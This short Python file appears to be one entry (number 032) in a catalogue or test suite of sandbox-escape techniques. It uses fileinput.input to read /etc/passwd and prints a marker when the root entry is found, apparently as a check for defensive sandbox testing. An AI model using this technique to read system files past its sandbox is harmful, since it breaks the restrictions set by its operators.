# escape: 032
# technique: fileinput.input
# family: dfile
# goal: read-file
# first-seen: HackTricks
import fileinput
s = next(iter(fileinput.input(['/etc/passwd'])))
if 'root:' in s: print('ESCAPED:fileinput')
